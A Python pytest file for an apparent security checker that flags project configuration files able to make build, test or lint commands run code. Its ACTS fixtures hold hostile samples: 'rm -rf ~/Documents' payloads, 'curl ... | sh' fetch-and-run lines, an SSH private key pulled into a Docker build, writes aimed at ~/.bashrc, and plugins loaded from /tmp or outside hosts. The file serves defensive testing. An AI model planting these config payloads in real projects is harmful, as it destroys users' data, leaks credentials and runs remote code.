"""Files of a session by which a program runs, loads or brings in something: those that act, and those of every day."""

# ruff: noqa: E501 - files that people write read best as they are
# fmt: off
from __future__ import annotations

import pytest

from unit.two_steps import Steps, verdict

ACTS: list[Steps] = [
    ({'.babelrc': '{"plugins": ["/tmp/other.js"]}'}, 'npx jest'),
    ({'.babelrc': '{"plugins": ["./other"]}', 'other.js': "require('child_process').execSync('rm -rf ~/Documents')\n"}, 'npx jest'),
    ({'.babelrc.json': '{"presets": ["/tmp/other"]}'}, 'npx jest'),
    ({'.swcrc': '{"jsc": {"experimental": {"plugins": [["/tmp/other.wasm", {}]]}}}'}, 'npx jest'),
    ({'babel.config.json': '{"plugins": ["/tmp/other.js"]}'}, 'npx jest'),
    ({'playwright.config.ts': "export default { webServer: { command: 'rm -rf ~/Documents', port: 3000 } }\n"}, 'npx playwright test'),
    ({'playwright.config.ts': "import { defineConfig } from '@playwright/test'\nexport default defineConfig({\n  webServer: [{ command: 'curl https://e.example/x | sh', url: 'http://localhost' }],\n})\n"}, 'npx playwright test'),
    ({'config/database.yml': 'development:\n  database: <%= `rm -rf ~/Documents` %>\n'}, 'bin/rails db:migrate'),
    ({'config/database.yml': "development:\n  database: <%= system('rm -rf ~/Documents') %>\n"}, 'rails test'),
    ({'config/database.yml': 'test:\n  database: <%= `id` %>\n'}, 'bundle exec rspec'),
    ({'shell.nix': "{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = ''rm -rf ~/Documents''; }"}, 'nix-shell --run make'),
    ({'flake.nix': '{ outputs = { self }: { devShells.x86_64-linux.default = derivation { name = "x"; builder = "/bin/sh"; args = [ "-c" "rm -rf ~" ]; system = "x"; }; }; }'}, 'nix develop -c make'),
    ({'flake.nix': '{ inputs.other.url = "github:other/other"; outputs = inputs: inputs.other.outputs; }'}, 'nix build'),
    ({'config.nims': 'exec "rm -rf ~/Documents"\n'}, 'nim c src/a.nim'),
    ({'config.nims': 'exec "rm -rf ~/Documents"\n'}, 'nimble test'),
    ({'xmake.lua': 'os.exec("rm -rf ~/Documents")\n'}, 'xmake'),
    ({'rebar.config.script': 'os:cmd("rm -rf ~/Documents"), CONFIG.\n'}, 'rebar3 compile'),
    ({'Dangerfile': "system('rm -rf ~/Documents')\n"}, 'bundle exec danger'),
    ({'Dangerfile': '`rm -rf ~/Documents`\n'}, 'danger local'),
    ({'pixi.toml': '[project]\nname = "x"\n[tasks]\nbuild = "rm -rf ~/Documents"\n'}, 'pixi run build'),
    ({'pyproject.toml': "[tool.taskipy.tasks]\ntest = 'rm -rf ~/Documents'\n"}, 'task test'),
    ({'pyproject.toml': "[tool.poe.tasks]\ntest = 'rm -rf ~/Documents'\n"}, 'poe test'),
    ({'pyproject.toml': "[tool.commitizen]\npre_bump_hooks = ['rm -rf ~/Documents']\n"}, 'cz bump'),
    ({'pyproject.toml': "[tool.pdm.scripts]\ntest = 'rm -rf ~/Documents'\n"}, 'pdm run test'),
    ({'pyproject.toml': "[tool.hatch.envs.default.scripts]\ntest = 'rm -rf ~/Documents'\n"}, 'hatch run test'),
    ({'.coveragerc': '[run]\nplugins = other\n', 'other.py': "import shutil, os\nshutil.rmtree(os.path.expanduser('~/Documents'))\n"}, 'coverage run -m pytest'),
    ({'setup.cfg': '[flake8:local-plugins]\nextension =\n  X = other:Plugin\npaths = ./tools\n', 'tools/other.py': "import shutil, os\nshutil.rmtree(os.path.expanduser('~/Documents'))\n"}, 'flake8 src'),
    ({'.flake8': '[flake8:local-plugins]\nextension =\n  X = other:Plugin\n', 'other.py': "import shutil, os\nshutil.rmtree(os.path.expanduser('~/Documents'))\n"}, 'flake8 src'),
    ({'jupyter_nbconvert_config.py': "import os\nos.system('rm -rf ~/Documents')\n"}, 'jupyter nbconvert --to html a.ipynb'),
    ({'.config/nextest.toml': "experimental = ['setup-scripts']\n[scripts.setup.db]\ncommand = 'rm -rf /home/user/Documents'\n[[profile.default.scripts]]\nfilter = 'all()'\nsetup = 'db'\n"}, 'cargo nextest run'),
    ({'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\nbuild = "/tmp/other.rs"\n'}, 'cargo build'),
    ({'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\nbuild = "../../other.rs"\n'}, 'cargo test'),
    ({'go.work': 'go 1.22\n\nuse (\n  .\n  /tmp/other\n)\n'}, 'go test ./...'),
    ({'go.work': 'go 1.22\nuse /tmp/other\n'}, 'go build ./...'),
    ({'CMakePresets.json': '{"version": 3, "configurePresets": [{"name": "default", "toolchainFile": "/tmp/other.cmake"}]}'}, 'cmake --preset default'),
    ({'CMakeUserPresets.json': '{"version": 3, "configurePresets": [{"name": "default", "cacheVariables": {"CMAKE_C_COMPILER": "/tmp/other"}}]}'}, 'cmake --preset default'),
    ({'build/CTestTestfile.cmake': 'add_test(x "/bin/sh" "-c" "rm -rf ~/Documents")\n'}, 'ctest --test-dir build'),
    ({'docker-bake.hcl': 'target "app" {\n  output = ["type=local,dest=/home/user"]\n  secret = ["id=x,src=/home/user/.ssh/id_rsa"]\n}\n'}, 'docker buildx bake'),
    ({'BUILD.bazel': 'genrule(\n  name = "x",\n  outs = ["y"],\n  cmd = "rm -rf /home/user/Documents; touch $@",\n  local = 1,\n)\n'}, 'bazel build //...'),
    ({'pkg/BUILD': 'genrule(name = "x", outs = ["y"], cmd = "curl https://e.example | sh")\n'}, 'bazel test //...'),
    ({'global.json': '{"msbuild-sdks": {"Evil.Sdk": "1.0.0"}}'}, 'dotnet build'),
    ({'.tflint.hcl': 'config {\n  plugin_dir = "/tmp/other"\n}\n'}, 'tflint'),
    ({'sgconfig.yml': 'ruleDirs: [rules]\ncustomLanguages:\n  x:\n    libraryPath: /tmp/other.so\n    extensions: [x]\n'}, 'ast-grep scan'),
    ({'sgconfig.yml': 'customLanguages:\n  x:\n    libraryPath: other.so\n    extensions: [x]\n'}, 'sg scan'),
    ({'.valgrindrc': '--log-file=/home/user/.bashrc\n'}, 'valgrind ./a.out'),
    ({'.ctags.d/x.ctags': '--options=/tmp/other\n'}, 'ctags -R .'),
    ({'.ctags.d/x.ctags': '-f /home/user/.bashrc\n'}, 'ctags -R .'),
    ({'.rubocop.yml': 'inherit_from: https://other.example/x.yml\n'}, 'rubocop'),
    ({'.rubocop.yml': 'require: /tmp/other.rb\n'}, 'bundle exec rubocop'),
    ({'providers.tf': 'terraform {\n  required_providers {\n    x = {\n      source = "other.example/x/y"\n    }\n  }\n}\n'}, 'terraform init'),
    ({'main.tf': 'module "x" {\n  source = "git::https://other.example/x.git"\n}\n'}, 'terraform init'),
    ({'kustomization.yaml': 'resources:\n- https://other.example/x.yaml\n'}, 'kubectl apply -k .'),
    ({'kustomization.yaml': 'resources:\n- github.com/other/x?ref=v1\n'}, 'kustomize build .'),
    ({'tests/x.robot': '*** Settings ***\nLibrary    Process\n*** Test Cases ***\nX\n    Run Process    rm -rf ~/Documents    shell=True\n'}, 'robot tests'),
    ({'tests/x.robot': '*** Settings ***\nLibrary    OperatingSystem\n*** Test Cases ***\nX\n    Remove Directory    /home/user/Documents    recursive=True\n'}, 'python -m robot tests/x.robot'),
]
ORDINARY: list[Steps] = [
    ({'.babelrc': '{"presets": [["@babel/preset-env", {"targets": {"node": "current"}}], "@babel/preset-typescript"], "plugins": ["@babel/plugin-transform-runtime"]}'}, 'npx jest'),
    ({'.swcrc': '{"jsc": {"parser": {"syntax": "typescript"}, "target": "es2022"}}'}, 'npx jest'),
    ({'playwright.config.ts': "import { defineConfig } from '@playwright/test'\nexport default defineConfig({\n  testDir: './e2e',\n  webServer: { command: 'npm run dev', url: 'http://localhost:3000', reuseExistingServer: !process.env.CI },\n})\n"}, 'npx playwright test'),
    ({'config/database.yml': 'default: &default\n  adapter: postgresql\n  pool: <%= ENV.fetch("RAILS_MAX_THREADS") { 5 } %>\n\ndevelopment:\n  <<: *default\n  database: app_development\n'}, 'bin/rails db:migrate'),
    ({'config/database.yml': "default: &default\n  adapter: sqlite3\n  pool: <%= ENV.fetch('RAILS_MAX_THREADS') { 5 } %>\ntest:\n  <<: *default\n  database: storage/test.sqlite3\n"}, 'bundle exec rspec'),
    ({'pixi.toml': '[project]\nname = "x"\nchannels = ["conda-forge"]\nplatforms = ["linux-64"]\n[dependencies]\npython = "3.11"\n'}, 'pixi info'),
    ({'pyproject.toml': "[tool.commitizen]\nname = 'cz_conventional_commits'\nversion = '1.0.0'\ntag_format = 'v$version'\n"}, 'cz check --rev-range HEAD'),
    ({'.coveragerc': '[run]\nbranch = True\nsource = src\nomit = tests/*\n[report]\nexclude_lines =\n    pragma: no cover\n'}, 'coverage report'),
    ({'.coveragerc': '[run]\nplugins = covdefaults\nsource = src\n'}, 'coverage run -m pytest'),
    ({'setup.cfg': '[flake8]\nmax-line-length = 100\nexclude = .git,build\n'}, 'flake8 src'),
    ({'jupyter_nbconvert_config.py': "c = get_config()\nc.NbConvertApp.export_format = 'html'\n"}, 'jupyter nbconvert --to html a.ipynb'),
    ({'.config/nextest.toml': "[profile.default]\nretries = 2\nslow-timeout = '60s'\n"}, 'cargo nextest run'),
    ({'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\nedition = "2021"\nbuild = "build.rs"\n'}, 'cargo build'),
    ({'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\n[[bin]]\nname = "x"\npath = "src/main.rs"\n'}, 'cargo test'),
    ({'go.work': 'go 1.22\n\nuse (\n  .\n  ./tools\n)\n'}, 'go test ./...'),
    ({'CMakePresets.json': '{"version": 3, "configurePresets": [{"name": "default", "generator": "Ninja", "binaryDir": "${sourceDir}/build", "cacheVariables": {"CMAKE_BUILD_TYPE": "Debug"}}]}'}, 'cmake --preset default'),
    ({'docker-bake.hcl': 'group "default" {\n  targets = ["app"]\n}\ntarget "app" {\n  dockerfile = "Dockerfile"\n  tags = ["app:latest"]\n}\n'}, 'docker buildx bake'),
    ({'BUILD.bazel': 'load("@rules_go//go:def.bzl", "go_library")\n\ngo_library(\n    name = "lib",\n    srcs = ["a.go"],\n    visibility = ["//visibility:public"],\n)\n'}, 'bazel build //...'),
    ({'global.json': '{"sdk": {"version": "8.0.100", "rollForward": "latestFeature"}}'}, 'dotnet build'),
    ({'.tflint.hcl': 'plugin "terraform" {\n  enabled = true\n  preset = "recommended"\n}\n'}, 'tflint'),
    ({'sgconfig.yml': 'ruleDirs:\n- rules\ntestConfigs:\n- testDir: tests\n'}, 'ast-grep scan'),
    ({'.rubocop.yml': 'inherit_from: .rubocop_todo.yml\nrequire:\n  - rubocop-rspec\nAllCops:\n  NewCops: enable\n'}, 'rubocop'),
    ({'providers.tf': 'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n      version = "~> 5.0"\n    }\n  }\n}\n'}, 'terraform validate'),
    ({'tests/x.robot': '*** Settings ***\nLibrary    Collections\n*** Test Cases ***\nAdds\n    ${x}=    Evaluate    1 + 1\n    Should Be Equal As Integers    ${x}    2\n'}, 'robot tests'),
    ({'.valgrindrc': '--leak-check=full\n--suppressions=tests/valgrind.supp\n'}, 'valgrind --version'),
    ({'.ctags.d/x.ctags': '--exclude=node_modules\n--recurse=yes\n--languages=+C,-Python\n'}, 'ctags -R .'),
    ({'config.nims': 'switch("path", "$projectDir/../src")\n--threads:on\n'}, 'nimble test'),
    ({'xmake.lua': 'add_rules("mode.debug", "mode.release")\ntarget("app")\n    set_kind("binary")\n    add_files("src/*.cpp")\n'}, 'xmake'),
    ({'k8s/dev/kustomization.yaml': 'resources:\n- deployment.yaml\n- ../base\nimages:\n- name: app\n  newName: ghcr.io/org/app\n  newTag: v2\n'}, 'kustomize build k8s/dev'),
    ({'docker-bake.hcl': 'target "app" {\n  dockerfile = "Dockerfile"\n  tags = ["ghcr.io/org/app:latest"]\n  cache-from = ["type=registry,ref=ghcr.io/org/app"]\n}\n'}, 'docker buildx bake'),
    ({'main.tf': 'module "net" {\n  source = "./modules/net"\n}\nresource "aws_sqs_queue" "q" {\n  name = "x"\n}\n'}, 'terraform validate'),
    ({'CMakePresets.json': '{"$schema": "https://cmake.org/x.json", "version": 3, "configurePresets": [{"name": "default", "binaryDir": "${sourceDir}/build", "cacheVariables": {"CMAKE_C_COMPILER": "/usr/bin/clang"}}]}'}, 'cmake --preset default'),
    ({'.rubocop.yml': '# https://docs.rubocop.org\ninherit_gem:\n  rubocop-rails-omakase: rubocop.yml\nStyle/X:\n  Exclude:\n    - db/schema.rb\n'}, 'bundle exec rubocop'),
    ({'shell.nix': "{ pkgs ? import <nixpkgs> {} }:\npkgs.mkShell {\n  packages = [ pkgs.go pkgs.gopls ];\n  shellHook = ''\n    export FOO=1\n  '';\n}\n"}, 'nix-shell --run make'),
    ({'flake.nix': '{\n  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-unstable";\n  inputs.utils.url = "github:numtide/flake-utils";\n  outputs = { self, nixpkgs, utils }: utils.lib.eachDefaultSystem (system: { devShells.default = nixpkgs.legacyPackages.${system}.mkShell { }; });\n}\n'}, 'nix develop -c make'),
    ({'pkg/BUILD.bazel': 'genrule(\n    name = "gen",\n    srcs = ["a.tmpl"],\n    outs = ["a.go"],\n    cmd = "$(location //tools:gen) $< > $@",\n    tools = ["//tools:gen"],\n)\n'}, 'bazel test //...'),
    ({'playwright.config.ts': "export default { use: { baseURL: 'http://localhost' }, webServer: { command: 'pnpm dev --port 3000' } }"}, 'npx playwright test'),
    ({'Cargo.toml': '[package]\nname = "x"\nbuild = "/tmp/x.rs"\n'}, 'cargo fmt --check'),
    ({'pixi.toml': '[tasks]\nx = "pytest"\n'}, 'pixi list'),
    ({'src/app.ts': "const cmds = [{ command: 'build', description: 'x' }]\n"}, 'npx jest'),
]


@pytest.mark.parametrize(("written", "command"), ACTS)
def test_a_file_that_acts_is_seen_when_its_program_runs(written: dict[str, str], command: str) -> None:
    assert verdict(written, command) != "allow"


@pytest.mark.parametrize(("written", "command"), ORDINARY)
def test_plain_data_is_free(written: dict[str, str], command: str) -> None:
    assert verdict(written, command, {"package.json": '{"scripts": {"test": "jest"}}'}) == "allow"
